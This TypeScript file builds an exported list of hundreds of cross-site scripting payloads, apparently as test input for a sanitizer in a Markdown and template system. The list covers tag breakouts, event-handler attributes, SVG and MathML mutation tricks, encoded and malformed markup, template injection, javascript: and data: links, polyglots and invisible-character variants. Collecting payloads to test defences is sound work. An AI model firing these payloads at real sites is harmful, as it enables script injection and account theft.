/** What is run when a payload works. */
const BODIES: readonly string[] = ['<script>pwned()</script>', '<img src=x onerror=alert(1)>'];

/** What would end the place that a text stands in, if anything took it for more than text. */
const BREAKOUTS: readonly string[] = lines(String.raw`
  ">
  '>
  "'>
  "/>
  ' />
  -->
  --!>
  ]]>
  ]]>]]>
  */
  </title>
  </style>
  </script>
  </textarea>
  </noscript>
  </template>
  </select>
  </h1></main>
  </dd></dl></div>
  </td></tr></table>
  \">
  &quot;>
  {{/if}}
  </description></item>
`);

/** Attributes for what stands in a quoted one, in each kind of quotation mark. */
const ATTRIBUTES: readonly string[] = ['"', "'", '`', ' '].flatMap((mark) =>
  [
    'onmouseover=pwned() x=',
    'autofocus tabindex=1 onfocus=pwned() x=',
    'style=animation-name:x onanimationstart=pwned() x=',
    'href=javascript:pwned() x=',
    'srcdoc=<script>pwned()</script> x=',
  ].map((attribute) => `${mark} ${attribute.replaceAll('=', mark === ' ' ? '=' : `=${mark}`)}`),
);

/** Elements that run something by themselves or when they are touched. */
const ELEMENTS: readonly string[] = lines(`
  <script src=https://example.org/x.js></script>
  <script src=//example.org></script>
  <script type=module>pwned()</script>
  <script>top.pwned()</script >
  <script>window.pwned=1</script/x>
  <SCRIPT>alert(1)</SCRIPT>
  <scr<script>ipt>pwned()</scr</script>ipt>
  <script/x>pwned()</script>
  <script
  <img src=x onerror=pwned()>
  <img/src=x/onerror=pwned()>
  <img src="x" onerror="pwned()" alt='"'>
  <img src=x:x onerror=alert(1)//
  <img srcset=x onerror=pwned()>
  <IMG SRC=x OnErRoR=pwned()>
  <img src=https://example.org/pixel.png>
  <image src=x onerror=pwned()>
  <picture><source srcset=x><img onerror=pwned() src=x></picture>
  <body onload=pwned()>
  <body onpageshow=pwned()>
  <body background=https://example.org/x.png>
  <iframe src=javascript:pwned()>
  <iframe srcdoc="<script>top.pwned()</script>">
  <iframe srcdoc=&lt;script&gt;top.pwned()&lt;/script&gt;>
  <iframe onload=pwned()>
  <object data=javascript:pwned()>
  <object data=data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQoKTwvc2NyaXB0Pg==>
  <embed src=javascript:pwned()>
  <embed src=https://example.org/x.swf>
  <applet code=x>
  <video src=x onerror=pwned()>
  <video><source onerror=pwned()></video>
  <audio src=x onerror=pwned()>
  <video poster=javascript:pwned()//>
  <input autofocus onfocus=pwned()>
  <input type=image src=x onerror=pwned()>
  <select autofocus onfocus=pwned()>
  <textarea autofocus onfocus=pwned()>
  <keygen autofocus onfocus=pwned()>
  <button formaction=javascript:pwned()>nappi</button>
  <form action=javascript:pwned()><button>nappi</button></form>
  <form><input name=attributes><input name=innerHTML></form>
  <details open ontoggle=pwned()>
  <marquee onstart=pwned()>
  <marquee loop=1 width=0 onfinish=pwned()>
  <isindex type=image src=x onerror=pwned()>
  <dialog open onclose=pwned()>
  <a href=javascript:pwned()>linkki</a>
  <a href="jAvAsCrIpT:pwned()">linkki</a>
  <a href="java&#9;script:pwned()">linkki</a>
  <a href="https://example.org" onclick=pwned()>linkki</a>
  <a href="https://example.org" ping="https://example.org/p">linkki</a>
  <area href=javascript:pwned()>
  <base href=https://example.org/>
  <base href="javascript:/a/+pwned()//">
  <link rel=stylesheet href=https://example.org/x.css>
  <link rel=import href="data:text/html,<script>pwned()</script>">
  <link rel=prefetch href=https://example.org/p>
  <meta http-equiv=refresh content="0;url=javascript:pwned()">
  <meta http-equiv=refresh content="0;url=https://example.org/">
  <meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'">
  <meta http-equiv=set-cookie content="a=b">
  <frameset onload=pwned()><frame src=javascript:pwned()>
  <noscript><p title="</noscript><img src=x onerror=pwned()>">
  <template><script>pwned()</script></template>
  <xmp><img src=x onerror=pwned()></xmp>
  <plaintext>
  <listing>&lt;img src=x onerror=pwned()&gt;</listing>
  <b onmouseover=pwned()>lihava</b>
  <b/onclick=pwned()>lihava</b>
  <br onclick=pwned()>
  <span lang="sv" onclick=pwned()>sana</span>
  <span lang="sv"onclick="pwned()">sana</span>
  <span lang=sv style=x>sana</span>
  <sub id=Main class=skip>sana</sub>
  <x contenteditable onblur=pwned() tabindex=1>sana</x>
  <x onpointerover=pwned()>sana</x>
  <x ontransitionend=pwned() style=transition:color>sana</x>
  <custom-element is=x onclick=pwned()>
  <a id=newsletterIndex><a id=newsletterIndex name=x>
  <img name=getElementById><img name=currentScript>
`);

/** Drawings, formulas and styles. */
const FOREIGN: readonly string[] = lines(`
  <svg onload=pwned()>
  <svg/onload=pwned()>
  <svg><script>pwned()</script></svg>
  <svg><script href=data:,pwned() />
  <svg><script xlink:href=https://example.org/x.js />
  <svg><a xlink:href=javascript:pwned()><text x=20 y=20>linkki</text></a></svg>
  <svg><animate onbegin=pwned() attributeName=x dur=1s>
  <svg><a><animate attributeName=href values=javascript:pwned() /><text>x</text></a></svg>
  <svg><set attributeName=onmouseover to=pwned()>
  <svg><use href="data:image/svg+xml,<svg id=x onload=pwned()>#x">
  <svg><foreignObject><iframe onload=pwned()></foreignObject></svg>
  <svg><style>@import 'https://example.org/x.css'</style>
  <svg></p><style><a id="</style><img src=x onerror=pwned()>">
  <svg><desc><![CDATA[</desc><script>pwned()</script>]]></svg>
  <svg><image href=https://example.org/x.png>
  <svg><handler type=application/ecmascript>pwned()</handler>
  <math href=javascript:pwned()>linkki</math>
  <math><maction actiontype=statusline xlink:href=javascript:pwned()>linkki</maction></math>
  <math><mi xlink:href="data:x,<script>pwned()</script>">
  <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned()&gt;">
  <math><annotation-xml encoding=text/html><script>pwned()</script>
  <form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>
  <style>@import url(https://example.org/x.css);</style>
  <style>body{background:url(https://example.org/x.png)}</style>
  <style>*{x:expression(pwned())}</style>
  <style>@keyframes x{}</style><p style=animation-name:x onanimationend=pwned()>
  <p style="background:url(javascript:pwned())">
  <p style="behavior:url(x.htc);-moz-binding:url(x.xml#x)">
  <p style="width:expression(alert(1))">
  <div style="position:fixed;inset:0;z-index:9999">kaikki</div>
  <style><!--</style><script>pwned()//--></script>
  <noembed><style></noembed><img src=x onerror=pwned()></style>
  <option><style></option></select><img src=x onerror=pwned()></style>
`);

/** What is no markup by the rules, and may become some when it is read twice. */
const MALFORMED: readonly string[] = lines(
  String.raw`
  <<script>pwned()//<</script>
  <scr\0ipt>pwned()</scr\0ipt>
  <img src=x onerror=pwned()
  <img """><script>pwned()</script>">
  <img src=x` +
    '`' +
    String.raw`onerror=pwned()>
  < img src=x onerror=pwned()>
  </ script><script>pwned()</script >
  <a/href='javascript:pwned()'>x
  <p id="</p><img src=x onerror=pwned()>">
  <!--><img src=x onerror=pwned()>
  <!--><img src=x onerror=pwned()>-->
  <!-- --!><img src=x onerror=pwned()> -->
  <!--->pwned()<!-->
  <!--[if gte IE 4]><script>pwned()</script><![endif]-->
  <![if true]><script>pwned()</script><![endif]>
  <!-- <img src="--><img src=x onerror=pwned()//">
  <!--
  <!--contents-->
  <!-- more -->
  <![CDATA[<script>pwned()</script>]]>
  <![CDATA[
  ]]><script>pwned()</script>]]>
  ]]><x>]]></x>
  ]]]]><![CDATA[><script>pwned()</script>
  <?xml version="1.0"?><?xml-stylesheet href="javascript:pwned()"?>
  <?php echo '<script>pwned()</script>' ?>
  <? foo="><script>pwned()</script>">
  <!DOCTYPE html [<!ENTITY x SYSTEM "https://example.org/x">]>&x;
  <!ATTLIST x onload CDATA "pwned()">
  <%<!--'%><script>pwned()</script -->
  <% pwned() %>
  </p></div></article></main></body></html><script>pwned()</script>
  </title></head><body onload=pwned()>
  &lt;script&gt;pwned()&lt;/script&gt;
  &#60;script&#62;pwned()&#60;/script&#62;
  &#x3C;img src=x onerror=pwned()&#x3e;
  &#0000060img src=x onerror=pwned()&#0000062
  &LT;svg onload=pwned()&GT;
  &amp;lt;script&amp;gt;pwned()&amp;lt;/script&amp;gt;
  &ltscript&gtpwned()&lt/script&gt
  %3Cscript%3Epwned()%3C/script%3E
  %253Cscript%253Epwned()%253C%252Fscript%253E
  \x3cscript\x3epwned()\x3c/script\x3e
  \u003cimg src=x onerror=pwned()\u003e
  +ADw-script+AD4-pwned()+ADw-/script+AD4-
  ＜script＞pwned()＜/script＞
  ‹script›pwned()‹/script›
  &quot; onmouseover=&quot;pwned()
  &#34; onmouseover=&#34;pwned()
  &apos; onmouseover=&apos;pwned()
  \"; pwned(); //
  '; pwned(); //
  '-pwned()-'
  \';pwned()//
  */pwned()/*
  // pwned()
  $&$'$${'`'}$1$$<script>pwned()</script>
  "}]);pwned();([{"
  ");pwned();//
  \u2028pwned()
  __proto__
  constructor
`,
);

/** Fields of templates in many languages. */
const TEMPLATES: readonly string[] = lines(String.raw`
  {{constructor}}
  {{constructor.constructor('pwned()')()}}
  {{constructor|<script>pwned()</script>}}
  {{__proto__|<img src=x onerror=pwned()>}}
  {{nimi|" onmouseover="pwned()}}
  {{{nimi}}}
  {{{constructor}}}
  {{#with "s" as |x|}}{{x.constructor}}{{/with}}
  {{> sivu}}
  {{lookup this "constructor"}}
  {{nimi|</p><script>pwned()</script>}}
  {{nimi|javascript:pwned()}}
  {{$on.constructor('pwned()')()}}
  {%raw%}<script>pwned()</script>{%endraw%}
  {{= pwned() =}}
  [[${'$'}{pwned()}]]
  ${'$'}{pwned()}
  #{pwned()}
  <%= pwned() %>
  *|HTML:pwned()|*
  <x ng-app>{{$eval.constructor('pwned()')()}}
  <x v-on:click=pwned() x-on:click=pwned() @click=pwned()>
  <mj-raw><script>pwned()</script></mj-raw>
  ::: button
`);

/** Markdown that makes something of an address. */
const MARKDOWN: readonly string[] = lines(String.raw`
  [linkki](javascript:pwned())
  [linkki](<javascript:pwned()>)
  [linkki](JaVaScRiPt:pwned())
  [linkki]( javascript:pwned())
  [linkki](java&Tab;script:pwned())
  [linkki](java&NewLine;script:pwned())
  [linkki](javascript&colon;pwned())
  [linkki](javascript&#58;pwned())
  [linkki](javascript&#x3A;pwned())
  [linkki](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;pwned())
  [linkki](&#106;avascript:pwned())
  [linkki](&#0000106avascript:pwned())
  [linkki](\j\avascript:pwned())
  [linkki](javascript\:pwned())
  [linkki](%6Aavascript:pwned())
  [linkki](javascript://example.org/%0Apwned())
  [linkki](https://example.org/"onmouseover="pwned())
  [linkki](https://example.org/'onmouseover='pwned())
  [linkki](https://example.org/ "otsikko" onmouseover="pwned()")
  [linkki](https://example.org/ 'x" onmouseover="pwned()')
  [linkki](<https://example.org/"><script>pwned()</script>>)
  [linkki](data:text/html,<script>pwned()</script>)
  [linkki](vbscript:pwned)
  [linkki](#"onmouseover="pwned())
  [linkki](article:x#"onmouseover="pwned())
  [linkki](issue:sivu-0#"><img/src=x/onerror=pwned()>)
  [linkki](tel:123"onclick="pwned())
  [linkki](mailto:aino@example.org"onclick="pwned())
  [linkki](mailto:%3Cimg%20src%3Dx%20onerror%3Dpwned()%3E@example.org)
  [linkki](mailto:aino@example.org?body=<script>pwned()</script>)
  [<img src=x onerror=pwned()>](https://example.org/)
  [![kuva](x" onerror="pwned())](javascript:pwned())
  ![kuva](javascript:pwned())
  ![kuva" onerror="pwned()](kuva.png)
  ![kuva](kuva.png" onerror="pwned())
  ![kuva](https://example.org/x.png)
  ![kuva](data:image/svg+xml,<svg/onload=pwned()>)
  <javascript:pwned()>
  <javascript:alert(1)//>
  <https://example.org/"onmouseover="pwned()>
  <data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+>
  <aino@example.org"onclick="pwned()>
  https://example.org/"onmouseover="pwned()
  https://example.org/'onmouseover='pwned()
  https://example.org/<script>pwned()</script>
  https://example.org/&quot;onmouseover=&quot;pwned()
  https://example.org/](javascript:pwned())
  www.example.org/"onmouseover=pwned()
  [a]: javascript:pwned()
  [a][a] [a]: <javascript:pwned()> "x"
  # <img src=x onerror=pwned()>
  > <script>pwned()</script>
  - <script>pwned()</script>
  ~~<script>pwned()</script>~~
  **<b onclick=pwned()>**lihava</b>
  <b><script>pwned()</script></b>
  <b><i></b><img src=x onerror=pwned()></i>
  *[<img](javascript:pwned() "src=x onerror=pwned()")*
  [x](y "z" <script>pwned()</script>)
  \<script>pwned()\</script>
  \[linkki](javascript:pwned())
`);

/** One text that breaks out of many places at once. */
const POLYGLOTS: readonly string[] = [
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
  '">><marquee><img src=x onerror=pwned()></marquee>" ></plaintext\\></|\\><plaintext/onmouseover=pwned()>',
  '\'">><script>pwned()</script>\'"--></style></title></textarea></noscript>]]>]]>{{x}}${pwned()}',
  'javascript://%250Aalert(1)//\'/*\\\'/*"/*\\"/*`/*\\`/*%26apos;)/*<!--></Title/</Style/</Script/</textArea/</iFrame/</noScript>\\74k<K/contentEditable/autoFocus/OnFocus=/*${/*/;{/**/(alert)(1)}//><Base/Href=//example.org\\76-->',
  '`"\'><img src=x onerror=pwned()><a href=javascript:pwned()>linkki</a><!--]]>]]>',
  '"onclick=pwned()//<button \'onclick=pwned()//>*/pwned()//',
];

/** Addresses that run something where a browser follows them. */
const ADDRESSES: readonly string[] = [
  ...lines(String.raw`
    javascript:pwned()
    JAVASCRIPT:pwned()
    javascript:pwned()//https://example.org/
    javascript:pwned()//x.pdf
    javascript:/*https://example.org/*/pwned()
    javascript:void(0)
    javascript:
    javascript:void(pwned())
    javascript:"<script>pwned()</script>"
    javascript:eval(name)
    javascript:pwned%28%29
    javascript:\u0070wned()
    javascript:pwned${'`'}1${'`'}
    &#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;pwned()
    &#x6A;avascript&#x3a;pwned()
    &#0000106;avascript:pwned()
    java&Tab;script:pwned()
    java&#9;script:pwned()
    java&#10;script:pwned()
    java&#13;script:pwned()
    &Tab;javascript:pwned()
    javascript&Tab;:pwned()
    &#32;javascript:pwned()
    &nbsp;javascript:pwned()
    &#x200B;javascript:pwned()
    &ZeroWidthSpace;javascript:pwned()
    &#xFEFF;javascript:pwned()
    &#x2028;javascript:pwned()
    java&shy;script:pwned()
    java&#x200D;script:pwned()
    javascript&colon;pwned&lpar;&rpar;
    javascript&#58pwned()
    javascript%3Apwned()
    java%0Ascript:pwned()
    java%00script:pwned()
    view-source:javascript:pwned()
    feed:javascript:pwned()
    jar:javascript:pwned()!/
    url:javascript:pwned()
    livescript:pwned()
    mocha:pwned()
    vbscript:pwned()
    VbScRiPt:msgbox(1)
    data:text/html,<script>pwned()</script>
    data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+
    data:text/html;charset=utf-7,+ADw-script+AD4-pwned()
    data:image/svg+xml,<svg/onload=pwned()>
    data:application/javascript,pwned()
    data:,pwned()
    DATA:text/html,x
    blob:https://example.org/1
    filesystem:https://example.org/temporary/x
    file:///etc/hosts
    about:blank
    chrome://version
    intent://x#Intent;scheme=javascript;end
    ms-word:ofe|u|https://example.org/x
    //example.org/x
    \\example.org\x
    /\example.org
    https:javascript:pwned()
    http://javascript:pwned()@example.org/
    https://example.org/#javascript:pwned()
    {{nimi|javascript:pwned()}}
    {{nimi|javascript}}:pwned()
    java{{nimi|script:pwned()}}
    {{nimi|java}}{{nimi|script:pwned()}}
    {{nimi|data:text/html,x}}
    {{nimi|https://example.org/" onmouseover="pwned()}}
    https://example.org/{{nimi|"><script>pwned()</script>}}
    https://example.org/?a={{nimi|&" onmouseover=pwned()}}
    mailto:{{nimi|"><script>pwned()</script>}}@example.org
    tel:{{nimi|1" onclick="pwned()}}
    article:../../x
    article:javascript:pwned()
    issue:"onmouseover="pwned()
  `),
];

/** Characters that some programs leave out and others do not, so that one thing is checked and another is shown. */
const UNSEEN: readonly string[] = Array.from(
  '\u0000\u0001\u0008\u000b\u000c\u001b\u007f\u0085\u00ad\u061c\u200b\u2028\u2029\u202e\u2066\ufeff\ufffd\ufffe\uffff\u{1fffe}',
);

const HIDDEN: readonly string[] = UNSEEN.flatMap((character) => [
  `<scr${character}ipt>pwned()</scr${character}ipt>`,
  `<img${character}src=x onerror=pwned()>${character}`,
  `java${character}script:pwned()`,
  `${character}javascript:pwned()`,
]);

/** The same written as references, which Markdown understands. */
const REFERENCES: readonly string[] = [
  '&#1;',
  '&#x8;',
  '&#31;',
  '&#127;',
  '&#xFFFE;',
  '&#xFFFF;',
  '&#0;',
  '&#xD800;',
  '&#x85;',
].flatMap((reference) => [
  `java${reference}script:pwned()`,
  `${reference}javascript:pwned()`,
  `data${reference}:text/html,<script>pwned()</script>`,
]);

/** The mark of a link within the archive, as it stands in texts that are not finished. */
const MARKS: readonly string[] = [
  '\u0000articles/x/',
  '\u0000\u0000article:x',
  '{{nimi|\u0000\u0000}}',
  '{{nimi|\u0000}}<b>x</b>',
  'https://example.org/\u0000\u0000x',
  '{{nimi|a\u0001b\uffffc}}',
];

/** Texts of one line that want to be more than text. Each one is there once. */
export const PAYLOADS: readonly string[] = [
  ...new Set([
    ...BREAKOUTS.flatMap((breakout) => BODIES.map((body) => `${breakout}${body}`)),
    ...ATTRIBUTES,
    ...ELEMENTS,
    ...FOREIGN,
    ...MALFORMED,
    ...TEMPLATES,
    ...MARKDOWN,
    ...POLYGLOTS,
    ...ADDRESSES,
    ...HIDDEN,
    ...REFERENCES,
    ...MARKS,
  ]),
];

function lines(table: string): string[] {
  return table
    .split('\n')
    .map((line) => line.trim())
    .filter((line) => line !== '');
}
